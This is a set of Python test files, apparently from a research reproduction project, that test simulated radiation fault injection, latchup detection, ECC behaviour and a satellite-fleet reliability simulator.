            labelled.append(LabelledTrace(trace=trace, sel_onset=None))

        def factory(config):
            return IldDetector(
                trained_detector.model,
                trained_detector.quiescence.max_instruction_rate,
                config,
            )

        result = sweep_thresholds(factory, labelled)
        assert result.chosen.false_negatives == 0
        assert 0.04 <= result.chosen.threshold_amps <= 0.08
        # The sweep covers the paper's nine candidate thresholds.
        assert len(result.scores) == 9
