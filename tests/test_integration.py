"""Cross-feature integration scenarios.

Each test combines subsystems the unit suites exercise separately, the
way a real deployment would: Radshield on the non-ECC Mars coprocessor,
model uplink round-trips, checksum protection on the storage frontier,
and a full flightsw→telemetry→blackbox→downlink chain.
"""

import numpy as np
import pytest

from repro.core.emr import EmrConfig, EmrRuntime, Frontier, checksum_protected_run
from repro.core.ild import CurrentModel, IldConfig, IldDetector, train_ild
from repro.core.radshield import Radshield, RadshieldConfig
from repro.errors import ConfigurationError
from repro.sim import (
    CurrentStep,
    Machine,
    TelemetryConfig,
    TraceGenerator,
)
from repro.workloads import AesWorkload, ImageProcessingWorkload, navigation_schedule


@pytest.fixture(scope="module")
def generator():
    return TraceGenerator(TelemetryConfig(tick=4e-3))


class TestMarsCoprocessorDeployment:
    """The §5 Mars deployment: Snapdragon 801, no ECC DRAM — EMR on the
    storage frontier, protecting the global-localization workload."""

    def test_localization_on_snapdragon(self):
        machine = Machine.snapdragon801()
        workload = ImageProcessingWorkload(map_size=64, template_size=16, stride=16)
        spec = workload.build(np.random.default_rng(0))
        golden = workload.reference_outputs(spec)
        runtime = EmrRuntime(
            machine, workload, config=EmrConfig(replication_threshold=0.2)
        )
        assert runtime.frontier is Frontier.STORAGE
        result = runtime.run(spec=spec)
        assert result.matches(golden)
        best = ImageProcessingWorkload.best_match(result.outputs)
        assert best == ImageProcessingWorkload.best_match(golden)
        # Storage frontier leaves nothing trusted in DRAM: disk paid.
        assert result.breakdown["disk_read"] > 0


class TestModelUplink:
    """Ground-train, serialize, 'uplink', deploy — the paper's flow."""

    def test_roundtrip_preserves_predictions(self, generator):
        rng = np.random.default_rng(0)
        ground = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
        trained = train_ild(
            ground, max_instruction_rate=generator.max_instruction_rate
        )
        blob = trained.model.to_bytes()
        recovered = CurrentModel.from_bytes(blob)
        predictions_a = trained.model.predict(ground.counters)
        predictions_b = recovered.predict(ground.counters)
        assert np.allclose(predictions_a, predictions_b)

    def test_uplinked_model_detects_sels(self, generator):
        rng = np.random.default_rng(1)
        ground = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
        trained = train_ild(
            ground, max_instruction_rate=generator.max_instruction_rate
        )
        flight_model = CurrentModel.from_bytes(trained.model.to_bytes())
        flight_detector = IldDetector(
            flight_model, generator.max_instruction_rate, IldConfig()
        )
        trace = generator.generate(
            navigation_schedule(300, rng=np.random.default_rng(2)),
            rng=rng,
            current_steps=[CurrentStep(start=50.0, delta_amps=0.07)],
        )
        detections = flight_detector.process(trace)
        assert detections and detections[0].time > 50.0

    def test_corrupted_uplink_rejected(self, generator):
        rng = np.random.default_rng(3)
        ground = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
        trained = train_ild(
            ground, max_instruction_rate=generator.max_instruction_rate
        )
        blob = bytearray(trained.model.to_bytes())
        blob[10] ^= 0x40  # an SEU in the uplink buffer
        with pytest.raises(ConfigurationError):
            CurrentModel.from_bytes(bytes(blob))

    def test_unfitted_model_not_serializable(self):
        with pytest.raises(ConfigurationError):
            CurrentModel().to_bytes()


class TestChecksumOnStorageFrontier:
    def test_snapdragon_checksum_run(self):
        machine = Machine.snapdragon801()
        workload = AesWorkload(chunk_bytes=64, chunks=6)
        spec = workload.build(np.random.default_rng(4))
        result = checksum_protected_run(machine, workload, spec=spec)
        assert result.outputs == workload.reference_outputs(spec)
        assert result.frontier is Frontier.STORAGE


class TestFullShieldOnFlightSoftware:
    """flightsw activity -> ILD detection -> black box -> CRC downlink,
    all through the Radshield facade."""

    def test_end_to_end(self, generator):
        from repro.flightsw import build_frame, flight_schedule, parse_frame
        from repro.radiation import LatchupInjector

        rng = np.random.default_rng(5)
        ground_segments, _ = flight_schedule(900.0, rng=rng)
        ground = generator.generate(ground_segments, rng=rng)
        machine = Machine.rpi_zero2w()
        shield = Radshield.for_machine(
            machine, ground, max_instruction_rate=generator.max_instruction_rate
        )
        injector = LatchupInjector(machine)

        # Clean shift first (black-box baseline history).
        clean_segments, _ = flight_schedule(400.0, rng=np.random.default_rng(6))
        assert shield.process_telemetry(
            generator.generate(clean_segments, rng=rng)
        ) == []
        machine.clock.advance_to(400.0)

        injector.induce_delta(0.08)
        shift_segments, shift = flight_schedule(400.0, rng=np.random.default_rng(7))
        trace = generator.generate(
            shift_segments, rng=rng,
            current_steps=[CurrentStep(start=0.0, delta_amps=0.08)],
            start_time=machine.clock.now,
        )
        responses = shield.process_telemetry(trace)
        assert responses and responses[0].power_cycled
        assert not injector.any_active
        diagnostic = responses[0].diagnostic
        assert diagnostic.estimated_step_amps == pytest.approx(0.08, abs=0.04)

        # Downlink the alarm through the CRC'd telemetry link.
        shift.telemetry.store("ild.step_ma", responses[0].detection_time,
                              diagnostic.estimated_step_amps * 1e3)
        frame = build_frame(shift.telemetry, frame_time=machine.clock.now)
        _, values = parse_frame(frame)
        assert values["ild.step_ma"][1] == pytest.approx(
            diagnostic.estimated_step_amps * 1e3
        )
