"""Tests for the unified fault surface (repro.sim.faults).

Covers the domain protocol and registry, flux-weighted sampling, the
SECDED outcome matrix driven through surface strikes, flash page-cache
strikes, the adjacent-MBU-within-codeword guarantee, the census-derived
Table 4 figures, and the ``faults census`` CLI.
"""

import json

import numpy as np
import pytest

from repro.__main__ import main
from repro.analysis.vulnerability import DieModel
from repro.errors import (
    ConfigurationError,
    InvalidAddressError,
    UncorrectableMemoryError,
)
from repro.radiation.seu import flip_dram, strike_surface
from repro.sim.faults import (
    CensusEntry,
    FaultDomain,
    FaultRegion,
    FaultSurface,
    census_json,
    flip_float64,
    flip_int_bit,
    render_census,
)
from repro.sim.machine import Machine
from repro.sim.memory import SimMemory
from repro.sim.storage import FlashStorage


class BitBox:
    """Minimal in-test fault domain: one region over a bytearray."""

    def __init__(self, size: int, name: str = "box", protection: str = "none"):
        self.data = bytearray(size)
        self.region_name = name
        self.protection = protection

    def fault_census(self):
        return (
            FaultRegion(
                self.region_name, len(self.data) * 8,
                protection=self.protection, scope="private",
            ),
        )

    def fault_strike(self, region, offset, bit):
        if region != self.region_name:
            raise InvalidAddressError(f"no region {region!r}")
        if not 0 <= offset < len(self.data):
            raise InvalidAddressError(f"offset {offset} out of range")
        self.data[offset] ^= 1 << (bit & 7)
        return f"box +{offset}:{bit & 7}"


def warmed_machine(seed: int = 0) -> Machine:
    """An rpi_zero2w with live bits in DRAM, every cache, and flash."""
    machine = Machine.rpi_zero2w(seed=seed)
    payload = bytes(range(256)) * 16
    region = machine.memory.alloc(len(payload), label="warm")
    machine.memory.write_region(region, payload)
    for group in range(len(machine.caches.l1)):
        machine.read_via_cache(region.addr, len(payload), group)
    machine.storage.store("warm", payload)
    machine.storage.read("warm")
    return machine


class TestFaultRegion:
    def test_validates_protection_class(self):
        with pytest.raises(ConfigurationError):
            FaultRegion("r", 8, protection="parity")

    def test_validates_scope(self):
        with pytest.raises(ConfigurationError):
            FaultRegion("r", 8, scope="global")

    def test_rejects_negative_bits(self):
        with pytest.raises(ConfigurationError):
            FaultRegion("r", -1)

    def test_ecc_property_tracks_secded(self):
        assert FaultRegion("r", 8, protection="secded").ecc
        assert not FaultRegion("r", 8, protection="voted").ecc

    def test_span_bytes_rounds_up(self):
        assert FaultRegion("r", 1).span_bytes == 1
        assert FaultRegion("r", 9).span_bytes == 2


class TestRegistry:
    def test_register_and_strike(self):
        surface = FaultSurface()
        box = surface.register("box", BitBox(4))
        record = surface.strike("box", "box", 2, 5)
        assert box.data[2] == 1 << 5
        assert record.domain == "box" and record.offset == 2
        assert "box +2:5" in str(record)

    def test_duplicate_name_rejected(self):
        surface = FaultSurface()
        surface.register("box", BitBox(4))
        with pytest.raises(ConfigurationError):
            surface.register("box", BitBox(4))

    def test_non_domain_rejected(self):
        with pytest.raises(ConfigurationError):
            FaultSurface().register("nope", object())

    def test_unknown_domain_rejected(self):
        with pytest.raises(ConfigurationError):
            FaultSurface().strike("ghost", "r", 0, 0)

    def test_unregister_and_contains(self):
        surface = FaultSurface()
        surface.register("box", BitBox(4))
        assert "box" in surface
        surface.unregister("box")
        assert "box" not in surface
        with pytest.raises(ConfigurationError):
            surface.unregister("box")

    def test_protocol_is_runtime_checkable(self):
        assert isinstance(BitBox(1), FaultDomain)
        assert isinstance(SimMemory(64), FaultDomain)
        assert isinstance(FlashStorage(), FaultDomain)


class TestCensus:
    def test_machine_census_covers_every_tier(self):
        machine = warmed_machine()
        labels = {e.label for e in machine.fault_surface.census()}
        for expected in ("dram.data", "dram.checks", "l1[0].lines",
                        "l2.lines", "flash.page_cache", "flash.media",
                        "core0.pipeline", "core0.counters"):
            assert expected in labels

    def test_census_bits_match_component_state(self):
        machine = warmed_machine()
        entries = {e.label: e.bits for e in machine.fault_surface.census()}
        assert entries["dram.data"] == machine.memory.allocated_bytes * 8
        l2 = machine.caches.l2
        assert entries["l2.lines"] == (
            len(l2.resident_lines) * l2.line_size * 8
        )
        assert entries["flash.media"] == machine.storage.file_size("warm") * 8

    def test_include_restricts_and_total_bits_sums(self):
        machine = warmed_machine()
        surface = machine.fault_surface
        dram_only = surface.census(include=("dram",))
        assert all(e.domain == "dram" for e in dram_only)
        assert surface.total_bits(("dram",)) == sum(e.bits for e in dram_only)

    def test_zero_bit_regions_are_listed(self):
        machine = Machine.rpi_zero2w()
        entries = {e.label: e.bits for e in machine.fault_surface.census()}
        assert entries["dram.data"] == 0  # nothing allocated yet


class TestSampling:
    def test_sample_is_flux_weighted(self):
        surface = FaultSurface()
        surface.register("big", BitBox(1000))
        surface.register("small", BitBox(10))
        rng = np.random.default_rng(7)
        hits = [surface.sample(rng)[0] for _ in range(500)]
        big_share = hits.count("big") / len(hits)
        assert 0.96 < big_share <= 1.0  # expected 1000/1010

    def test_sample_raises_on_dead_surface(self):
        surface = FaultSurface()
        surface.register("empty", BitBox(0))
        with pytest.raises(InvalidAddressError):
            surface.sample(np.random.default_rng(0))

    def test_strike_random_mbu_stays_inside_region(self):
        surface = FaultSurface()
        box = surface.register("box", BitBox(2))
        rng = np.random.default_rng(3)
        records = surface.strike_random(rng, bits=40)
        assert len(records) == 40
        # Every strike clamped to the 16-bit region.
        assert all(r.offset * 8 + r.bit < 16 for r in records)
        assert any(box.data)

    def test_strike_surface_helper(self):
        machine = warmed_machine()
        records = strike_surface(machine, np.random.default_rng(5), bits=2)
        assert len(records) == 2
        assert records[0].domain in machine.fault_surface.domain_names


class TestSecdedMatrix:
    """The SECDED outcome matrix, driven through surface strikes."""

    def setup_method(self):
        self.surface = FaultSurface()
        self.mem = self.surface.register("dram", SimMemory(256, ecc=True))
        self.region = self.mem.alloc(64)
        self.payload = bytes(range(64))
        self.mem.write_region(self.region, self.payload)

    def test_single_bit_is_corrected(self):
        self.surface.strike("dram", "data", 8, 3)
        assert self.mem.read_region(self.region) == self.payload
        assert self.mem.stats.corrected_errors == 1

    def test_double_bit_is_detected_uncorrectable(self):
        # Two flips inside one 8-byte codeword.
        self.surface.strike("dram", "data", 8, 3)
        self.surface.strike("dram", "data", 9, 6)
        with pytest.raises(UncorrectableMemoryError):
            self.mem.read_region(self.region)
        assert self.mem.stats.detected_errors >= 1

    def test_double_bit_across_codewords_is_two_corrections(self):
        self.surface.strike("dram", "data", 0, 0)
        self.surface.strike("dram", "data", 8, 0)
        assert self.mem.read_region(self.region) == self.payload
        assert self.mem.stats.corrected_errors == 2

    def test_triple_bit_is_silent_corruption(self):
        # Data bits 0,1,2 of one word: codeword positions 3,5,6 whose
        # syndrome XORs to zero — the decoder sees only a parity-bit
        # error and hands back corrupted data as "corrected". The SDC
        # case SECDED fundamentally cannot catch.
        for bit in range(3):
            self.surface.strike("dram", "data", 8, bit)
        data = self.mem.read_region(self.region)
        assert data != self.payload
        assert data[8] == self.payload[8] ^ 0b111

    def test_check_bit_strike_is_corrected(self):
        self.surface.strike("dram", "checks", 1, 4)
        assert self.mem.read_region(self.region) == self.payload
        assert self.mem.stats.corrected_errors == 1


class TestFlashStrikes:
    def setup_method(self):
        self.surface = FaultSurface()
        self.flash = self.surface.register("flash", FlashStorage())
        self.flash.store("a.bin", bytes(range(64)))
        self.flash.store("b.bin", bytes(reversed(range(64))))
        self.flash.read("a.bin")
        self.flash.read("b.bin")

    def test_page_cache_strike_corrupts_cached_copy_only(self):
        offset = self.flash.page_cache_address("b.bin", 5)
        detail = self.surface.strike("flash", "page_cache", offset, 2).detail
        assert "b.bin+5" in detail
        corrupted = self.flash.read("b.bin").data
        assert corrupted[5] == bytes(reversed(range(64)))[5] ^ (1 << 2)
        # The medium is clean: a cold read re-stages the true bytes.
        self.flash.drop_page_cache()
        assert self.flash.read("b.bin").data == bytes(reversed(range(64)))

    def test_media_strike_is_corrected_on_read(self):
        # File-table order concatenates a.bin then b.bin.
        self.flash.drop_page_cache()
        detail = self.surface.strike("flash", "media", 64 + 3, 7).detail
        assert "b.bin+3" in detail
        assert self.flash.read("b.bin").data == bytes(reversed(range(64)))
        assert self.flash.media_stats.corrected_errors == 1

    def test_page_cache_address_rejects_cold_file(self):
        self.flash.drop_page_cache()
        with pytest.raises(InvalidAddressError):
            self.flash.page_cache_address("a.bin", 0)

    def test_census_tracks_cache_occupancy(self):
        entries = {
            e.region.name: e.bits
            for e in self.surface.census(include=("flash",))
        }
        assert entries["page_cache"] == 128 * 8
        assert entries["media"] == 128 * 8
        self.flash.drop_page_cache()
        entries = {
            e.region.name: e.bits
            for e in self.surface.census(include=("flash",))
        }
        assert entries["page_cache"] == 0


class TestDramMbuBugfix:
    def test_adjacent_flips_stay_inside_victim_codeword(self):
        # The old clamp (allocated_bytes - 1) could walk an adjacent
        # flip into the next word; adjacency must stay in the victim's
        # 8-byte SECDED codeword or the MBU threat model evaporates.
        machine = Machine.rpi_zero2w()
        machine.memory.alloc(4096)
        rng = np.random.default_rng(11)
        for _ in range(200):
            record = flip_dram(machine, rng, bits=3)
            addrs = [int(part.split(":")[0], 16)
                     for part in record.detail.split(",")]
            words = {addr // 8 for addr in addrs}
            assert len(words) == 1, record.detail


class TestFlipHelpers:
    def test_flip_float64_roundtrip(self):
        value = 1.5
        flipped = flip_float64(value, 52)
        assert flipped != value
        assert flip_float64(flipped, 52) == value

    def test_flip_int_bit_roundtrip(self):
        assert flip_int_bit(5, 1) == 7
        assert flip_int_bit(flip_int_bit(5, 63), 63) == 5


class TestTable4FromCensus:
    def test_machine_census_reproduces_paper_rows(self):
        die = DieModel()
        census = Machine.rpi_zero2w().fault_surface.census()
        assert die.protected_fraction_from_census(census, "none") == 0.0
        assert die.protected_fraction_from_census(
            census, "unprotected-parallel-3mr"
        ) == pytest.approx(0.75)
        for scheme in ("3mr", "sequential-3mr", "emr"):
            assert die.protected_fraction_from_census(census, scheme) == 1.0

    def test_ecc_caches_close_the_parallel_gap(self):
        # §3.2: with SECDED over the shared cache, EMR reverts to
        # plain parallel 3-MR — the census should derive 100 %.
        die = DieModel()
        census = (
            CensusEntry("l2", FaultRegion(
                "lines", 1024, protection="secded", scope="shared",
                die_bucket="shared_cache",
            )),
        )
        assert die.protected_fraction_from_census(
            census, "unprotected-parallel-3mr"
        ) == 1.0

    def test_unknown_scheme_and_bucket_raise(self):
        die = DieModel()
        with pytest.raises(ConfigurationError):
            die.protected_fraction_from_census((), "shield")
        with pytest.raises(ConfigurationError):
            die.bucket_share("chiplet")


class TestCensusRendering:
    def test_render_and_json_agree(self):
        machine = warmed_machine()
        entries = machine.fault_surface.census()
        rendered = render_census(entries)
        as_json = census_json(entries)
        assert "total:" in rendered
        assert len(as_json) == len(entries)
        assert sum(e["bits"] for e in as_json) == sum(e.bits for e in entries)

    def test_render_empty_census(self):
        assert "0 regions" in render_census(())


class TestFaultsCli:
    def test_census_table(self, capsys):
        assert main(["faults", "census"]) == 0
        out = capsys.readouterr().out
        assert "dram.data" in out and "protection" in out

    def test_census_warm_json(self, capsys):
        assert main(["faults", "census", "--warm", "--json"]) == 0
        entries = json.loads(capsys.readouterr().out)
        by_label = {f"{e['domain']}.{e['region']}": e for e in entries}
        assert by_label["dram.data"]["bits"] > 0
        assert by_label["flash.page_cache"]["bits"] > 0
        assert by_label["dram.data"]["ecc"] is True
