"""Tests for the constellation fleet engine (`repro.fleet`).

The determinism tests share one session-scoped tiny fleet and one
TrialStore, so the SEU calibration campaign (42 real injection cells)
runs exactly once for the whole module.
"""

import dataclasses
import json

import numpy as np
import pytest

from repro.__main__ import main
from repro.campaign import TrialStore
from repro.errors import ConfigurationError
from repro.fleet import (
    PRESETS,
    PROFILES,
    BandSpec,
    FleetSpec,
    OrbitBandPreset,
    build_report,
    build_utilization,
    calibration_table,
    fleet_status,
    get_preset,
    get_profile,
    load_spec,
    reference_spec,
    register_preset,
    report_json,
    run_fleet,
    smoke_spec,
    storm_variant,
)
from repro.radiation.environment import DEEP_SPACE, LOW_EARTH_ORBIT

# ----------------------------------------------------------------------
# Shared tiny fleet: one SEL-heavy custom band plus one quiet band, so
# both the batched (zero-SEL lockstep) and scalar (SEL remainder)
# shards are exercised in seconds.
# ----------------------------------------------------------------------

TEST_PRESET = OrbitBandPreset(
    name="test-storm",
    rationale="test band: LEO upset rates with a ~1000x latchup flux",
    environment=dataclasses.replace(
        LOW_EARTH_ORBIT,
        name="test-storm",
        sel_per_year=2000.0,
        sel_delta_amps_range=(0.05, 1.0),
    ),
)
register_preset(TEST_PRESET, replace=True)


def tiny_spec() -> FleetSpec:
    return FleetSpec(
        name="testfleet",
        seed=5,
        dt=60.0,
        calibration_runs=1,
        bands=(
            BandSpec(preset="test-storm", craft=2,
                     schemes=("none", "emr"), days=0.5),
            BandSpec(preset="leo-equatorial", craft=2,
                     schemes=("none", "3mr"), days=0.5),
        ),
    )


@pytest.fixture(scope="session")
def fleet_store(tmp_path_factory):
    return TrialStore(tmp_path_factory.mktemp("fleet-store"))


@pytest.fixture(scope="session")
def cold_result(fleet_store):
    return run_fleet(tiny_spec(), store=fleet_store, workers=1)


class TestPresets:
    def test_catalog_pairs_every_band_with_a_storm(self):
        quiet = {n for n in PRESETS if not n.endswith("-storm")
                 and n != "test-storm"}
        assert quiet == {
            "leo-equatorial", "leo-saa", "leo-polar", "geo", "deep-space"
        }
        for name in quiet:
            assert f"{name}-storm" in PRESETS

    def test_names_match_keys_and_rationales_exist(self):
        for name, preset in PRESETS.items():
            assert preset.name == name
            assert preset.rationale

    def test_anchored_to_paper_environments(self):
        assert get_preset("leo-equatorial").environment is LOW_EARTH_ORBIT
        assert get_preset("deep-space").environment is DEEP_SPACE

    def test_storm_variant_scales_rates(self):
        base = get_preset("leo-saa")
        storm = storm_variant(base)
        assert storm.environment.seu_per_day == pytest.approx(
            base.environment.seu_per_day * 8.0
        )
        assert storm.environment.sel_per_year == pytest.approx(
            base.environment.sel_per_year * 4.0
        )
        low, high = base.environment.sel_delta_amps_range
        assert storm.environment.sel_delta_amps_range == (low, high * 1.25)

    def test_storm_factors_validated(self):
        with pytest.raises(ConfigurationError):
            storm_variant(get_preset("geo"), seu_factor=0.5)

    def test_unknown_preset_lists_catalog(self):
        with pytest.raises(ConfigurationError, match="leo-saa"):
            get_preset("venus-orbit")

    def test_unknown_profile_lists_catalog(self):
        with pytest.raises(ConfigurationError, match="comms-relay"):
            get_profile("asteroid-mining")

    def test_register_refuses_silent_redefinition(self):
        with pytest.raises(ConfigurationError, match="replace=True"):
            register_preset(TEST_PRESET)


class TestProfiles:
    def test_catalog(self):
        assert set(PROFILES) == {
            "earth-observation", "comms-relay", "science-cruise"
        }

    def test_utilization_shape_and_bounds(self):
        profile = get_profile("earth-observation")
        util = build_utilization(profile, ticks=720, n_cores=4, dt=60.0)
        assert util.shape == (720, 4)
        assert float(util.min()) >= 0.0 and float(util.max()) <= 1.0

    def test_idle_windows_match_idle_fraction(self):
        profile = get_profile("science-cruise")
        # One full 6 h cycle at 60 s ticks.
        util = build_utilization(profile, ticks=360, n_cores=2, dt=60.0)
        idle = np.all(util == profile.idle_utilization, axis=1)
        assert float(idle.mean()) == pytest.approx(
            profile.idle_fraction, abs=0.02
        )

    def test_deterministic(self):
        profile = get_profile("comms-relay")
        a = build_utilization(profile, 500, 4, 60.0)
        b = build_utilization(profile, 500, 4, 60.0)
        np.testing.assert_array_equal(a, b)

    def test_rejects_bad_dimensions(self):
        with pytest.raises(ConfigurationError):
            build_utilization(get_profile("comms-relay"), 0, 4, 60.0)


class TestSpec:
    def test_round_trips_through_json(self):
        spec = tiny_spec()
        clone = FleetSpec.from_dict(json.loads(json.dumps(spec.to_dict())))
        assert clone == spec

    def test_rejects_unknown_spec_fields(self):
        data = tiny_spec().to_dict()
        data["warp_factor"] = 9
        with pytest.raises(ConfigurationError, match="warp_factor"):
            FleetSpec.from_dict(data)

    def test_rejects_unknown_band_fields(self):
        data = tiny_spec().to_dict()
        data["bands"][0]["altitude_km"] = 550
        with pytest.raises(ConfigurationError, match="altitude_km"):
            FleetSpec.from_dict(data)

    def test_rejects_unknown_preset(self):
        with pytest.raises(ConfigurationError, match="unknown orbit-band"):
            BandSpec(preset="venus-orbit", craft=1)

    def test_rejects_unknown_scheme(self):
        with pytest.raises(ConfigurationError, match="unknown scheme"):
            BandSpec(preset="geo", craft=1, schemes=("none", "4mr"))

    def test_rejects_duplicate_schemes(self):
        with pytest.raises(ConfigurationError, match="unique"):
            BandSpec(preset="geo", craft=1, schemes=("none", "none"))

    def test_rejects_degenerate_fleets(self):
        with pytest.raises(ConfigurationError):
            FleetSpec(name="x", bands=())
        with pytest.raises(ConfigurationError):
            FleetSpec(name="bad name", bands=(BandSpec("geo", 1),))
        with pytest.raises(ConfigurationError):
            FleetSpec(name="x", bands=(BandSpec("geo", 1),), dt=0.0)
        with pytest.raises(ConfigurationError):
            BandSpec(preset="geo", craft=0)

    def test_expand_is_the_fingerprint_grid(self):
        spec = tiny_spec()
        grid = spec.expand()
        assert len(grid) == spec.total_craft == 8
        assert grid == spec.expand()  # stable order
        assert grid[0] == {
            "band": 0, "preset": "test-storm", "scheme": "none",
            "profile": "earth-observation", "days": 0.5, "craft": 0,
        }

    def test_reference_spec_meets_acceptance_floors(self):
        spec = reference_spec()
        assert spec.total_craft >= 1000
        assert spec.planned_machine_hours >= 1_000_000

    def test_smoke_spec_is_ci_sized(self):
        spec = smoke_spec()
        assert spec.total_craft == 64
        assert spec.planned_machine_hours < 5000

    def test_load_spec_builtins_and_files(self, tmp_path):
        assert load_spec("smoke").name == "smoke"
        path = tmp_path / "fleet.json"
        path.write_text(json.dumps(tiny_spec().to_dict()))
        assert load_spec(path) == tiny_spec()
        with pytest.raises(ConfigurationError, match="no such fleet spec"):
            load_spec("nonexistent-fleet")
        bad = tmp_path / "bad.json"
        bad.write_text("{not json")
        with pytest.raises(ConfigurationError, match="invalid JSON"):
            load_spec(bad)


class TestCalibrationTable:
    def test_counts_become_probability_vectors(self):
        values = [
            {"scheme": "none", "target": "dram", "bits": 1,
             "counts": {"no_effect": 3, "sdc": 1}},
            {"scheme": "none", "target": "dram", "bits": 2, "counts": {}},
        ]
        table = calibration_table(values)
        assert table["none"]["dram"]["1"] == [0.75, 0.0, 0.0, 0.25]
        # An empty cell degrades to "no effect", never to a crash.
        assert table["none"]["dram"]["2"] == [1.0, 0.0, 0.0, 0.0]

    def test_vectors_sum_to_one(self):
        values = [
            {"scheme": "emr", "target": "l1", "bits": 1,
             "counts": {"no_effect": 1, "corrected": 2, "error": 3,
                        "sdc": 4}},
        ]
        (probs,) = [calibration_table(values)["emr"]["l1"]["1"]]
        assert sum(probs) == pytest.approx(1.0)


class TestReportMath:
    def _value(self, **over):
        base = {
            "preset": "geo", "scheme": "none", "profile": "comms-relay",
            "survived": True, "machine_hours": 24.0,
            "sels": {"total": 2, "ocp": 1, "ild": 1, "latched": 0,
                     "fatal": 0},
            "seu": {"no_effect": 10, "corrected": 5, "error": 2, "sdc": 3},
            "alarms": 1, "false_alarms": 0, "power_cycles": 2,
            "reboots": 2, "downtime_s": 36.0, "detections": 1,
            "detect_latency_s": 63.0, "energy_j": 100.0,
        }
        base.update(over)
        return base

    def test_cell_aggregation(self):
        spec = tiny_spec()
        values = [
            self._value(),
            self._value(survived=False, machine_hours=12.0,
                        sels={"total": 1, "ocp": 0, "ild": 0,
                              "latched": 0, "fatal": 1}),
        ]
        report = build_report(spec, values)
        (cell,) = report["cells"]
        assert (cell["preset"], cell["scheme"]) == ("geo", "none")
        assert cell["craft"] == 2 and cell["survived"] == 1
        assert cell["loss_rate"] == pytest.approx(0.5)
        assert cell["sel_total"] == 3
        # 2 of 3 latchups recovered (1 OCP + 1 ILD); the third was fatal.
        assert cell["sel_recovery_rate"] == pytest.approx(2 / 3)
        assert cell["sel_per_craft_year"] == pytest.approx(
            3 / (36.0 / 8766.0)
        )
        assert cell["sdc_per_craft_year"] == pytest.approx(
            6 / (36.0 / 8766.0)
        )
        assert cell["mean_detect_latency_s"] == pytest.approx(63.0)
        assert report["totals"]["machine_hours"] == pytest.approx(36.0)

    def test_sel_free_cell_has_perfect_recovery(self):
        values = [self._value(
            sels={"total": 0, "ocp": 0, "ild": 0, "latched": 0, "fatal": 0},
            detections=0, detect_latency_s=0.0,
        )]
        (cell,) = build_report(tiny_spec(), values)["cells"]
        assert cell["sel_recovery_rate"] == 1.0
        assert cell["mean_detect_latency_s"] == 0.0

    def test_report_json_is_canonical(self):
        report = build_report(tiny_spec(), [self._value()])
        assert report_json(report) == report_json(
            build_report(tiny_spec(), [self._value()])
        )


class TestFleetDeterminism:
    def test_cold_run_exercises_both_shards(self, cold_result):
        spec = cold_result.spec
        assert cold_result.executed == spec.total_craft == 8
        assert cold_result.store_hits == 0
        sel_bearing = [v for v in cold_result.values if v["sels"]["total"]]
        quiet = [v for v in cold_result.values if not v["sels"]["total"]]
        assert sel_bearing, "the SEL-heavy test band sampled no latchups"
        assert quiet, "no craft stayed in batch lockstep"
        # Disposition counters always sum to the latchups experienced.
        for v in cold_result.values:
            s = v["sels"]
            assert s["ocp"] + s["ild"] + s["latched"] + s["fatal"] == (
                s["total"]
            )

    def test_store_replay_is_byte_identical(self, cold_result, fleet_store):
        replay = run_fleet(tiny_spec(), store=fleet_store, workers=1)
        assert replay.executed == 0
        assert replay.store_hits == 8
        assert report_json(replay.report) == report_json(cold_result.report)

    def test_all_scalar_path_matches_batched(self, cold_result, fleet_store):
        scalar = run_fleet(
            tiny_spec(), store=fleet_store, workers=1, use_batch=False
        )
        assert report_json(scalar.report) == report_json(cold_result.report)

    def test_worker_count_is_invisible(self, cold_result):
        # No store: every trial re-executes, split across two processes.
        parallel = run_fleet(tiny_spec(), store=None, workers=2)
        assert parallel.executed == 8
        assert report_json(parallel.report) == report_json(
            cold_result.report
        )

    def test_partial_store_resumes_byte_identically(
        self, cold_result, fleet_store, tmp_path
    ):
        # Clone the store, knock out a third of the entries, resume.
        partial = TrialStore(tmp_path / "partial")
        entries = sorted(fleet_store.root.glob("??/*.json"))
        for i, path in enumerate(entries):
            if i % 3 == 0:
                continue  # the knocked-out third
            target = partial.root / path.parent.name / path.name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(path.read_text())
        resumed = run_fleet(tiny_spec(), store=partial, workers=1)
        assert resumed.executed > 0
        assert report_json(resumed.report) == report_json(cold_result.report)

    def test_fleet_status_after_run(self, cold_result, fleet_store):
        statuses = fleet_status(tiny_spec(), fleet_store)
        assert statuses["craft"].completed == statuses["craft"].total == 8
        assert statuses["calibration"].completed == (
            statuses["calibration"].total
        ) == 42  # 3 schemes x 7 targets x 2 bit-widths

    def test_machine_hours_capped_by_plan(self, cold_result):
        spec = cold_result.spec
        assert 0 < cold_result.report["machine_hours"] <= (
            spec.planned_machine_hours + 1e-9
        )


class TestFlightTier:
    def test_flight_samples_ride_the_same_store(self, cold_result,
                                                fleet_store):
        spec = dataclasses.replace(
            tiny_spec(), flight_sample=1, flight_days=0.005
        )
        first = run_fleet(spec, store=fleet_store, workers=1)
        # The craft grid replays from the shared store; only the
        # flight campaign (none/emr cells only — no 3mr missions) runs.
        assert first.store_hits >= 8
        assert first.flight_values
        schemes = {v["scheme"] for v in first.flight_values}
        assert schemes <= {"none", "emr"}
        assert first.report["flight"]
        again = run_fleet(spec, store=fleet_store, workers=1)
        assert again.executed == 0
        assert report_json(again.report) == report_json(first.report)


class TestFleetCli:
    def test_invalid_spec_exits_2(self, capsys):
        assert main(["fleet", "run", "--spec", "no-such-spec"]) == 2
        assert "error:" in capsys.readouterr().err

    def test_invalid_spec_file_exits_2(self, tmp_path, capsys):
        bad = tmp_path / "bad.json"
        bad.write_text(json.dumps({"name": "x", "bands": [], "bogus": 1}))
        assert main(["fleet", "run", "--spec", str(bad)]) == 2
        assert "bogus" in capsys.readouterr().err

    def test_presets_catalog(self, capsys):
        assert main(["fleet", "presets"]) == 0
        out = capsys.readouterr().out
        assert "leo-saa" in out and "deep-space-storm" in out
        assert "South Atlantic" in out
        assert "comms-relay" in out

    def test_status_reports_pending_before_any_run(self, tmp_path, capsys):
        assert main([
            "fleet", "status", "--spec", "smoke",
            "--store", str(tmp_path / "empty-store"),
        ]) == 0
        out = capsys.readouterr().out
        assert "0/64" in out and "trials pending" in out

    def test_report_refuses_incomplete_store(self, tmp_path, capsys):
        assert main([
            "fleet", "report", "--spec", "smoke",
            "--store", str(tmp_path / "empty-store"),
        ]) == 1
        assert "pending" in capsys.readouterr().err

